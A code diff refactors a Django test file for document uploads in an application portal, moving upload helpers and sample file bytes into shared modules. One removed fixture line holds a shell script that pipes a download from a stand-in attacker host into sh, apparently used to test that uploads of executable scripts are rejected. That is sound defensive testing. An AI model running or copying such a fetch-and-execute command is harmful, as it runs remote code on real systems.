@@ -2,8 +2,6 @@
 10 MB, while the case is a draft or awaits information); both sides open them through one
 authorised view; nobody else can."""
 
-import base64
-import html
 import re
 from pathlib import Path
 
@@ -16,56 +14,16 @@ from applications.models import Document, DocumentKind, Status
 from applications.selectors.documents import documents_for_case
 from applications.services.documents import display_name, document_upload
 from tests.applications.factories import ApplicationFactory, DocumentFactory, EmployerMemberFactory
+from tests.helpers.documents import JPEG, PDF, PNG, SCRIPT, stored_files, upload
+from tests.pages import followed_messages, url
 from tests.portal.factories import AdminFactory, OfficerFactory
 
 pytestmark = pytest.mark.django_db
-
-PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
-PNG = base64.b64decode(
-    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
-)
-# A JFIF header, a quantisation table marker and the end-of-image marker.
-JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + bytes(64) + b"\xff\xd9"
-SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
-
-
-def url(name, *args):
-    return reverse(f"applications:{name}", args=args)
-
-
-def followed_messages(client, response) -> list[str]:
-    """The messages the page the user is sent to would show."""
-    found = re.findall(r'class="alert[^"]*"[^>]*>(.*?)</div>', client.get(response["Location"]).content.decode(), re.S)
-    return [" ".join(html.unescape(m).split()) for m in found]
-
-
-def stored_files(media_root) -> list[Path]:
-    root = Path(media_root)
-    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []
-
-
-@pytest.fixture
-def english(client):
-    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
-    return client
-
-
-@pytest.fixture
-def employer_client(english, employer_user):
-    english.force_login(employer_user)
-    return english
 
 
 @pytest.fixture
 def draft(employer, moscow_rules):
     return ApplicationFactory(employer=employer)
-
-
-def upload(client, application, name, content, *, kind=DocumentKind.GUARANTEE_LETTER, content_type="application/pdf"):
-    return client.post(
-        url("document-upload", application.pk),
-        {"kind": kind, "file": SimpleUploadedFile(name, content, content_type=content_type)},
-    )
 
 
 # Upload
